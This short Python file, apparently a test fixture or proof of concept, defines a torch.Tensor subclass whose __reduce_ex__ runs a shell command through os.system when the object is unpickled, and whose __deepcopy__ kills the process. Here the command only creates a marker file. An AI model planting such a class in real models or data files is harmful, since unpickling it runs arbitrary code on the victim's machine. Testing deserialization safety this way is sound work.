# attack: a tensor whose pickling runs code
import os

import torch


class Bomb(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch " + TARGETS["folder"] + "/unpickled",)

    def __deepcopy__(self, memo):
        os._exit(0)


def double(x):
    return (3 * x).as_subclass(Bomb)
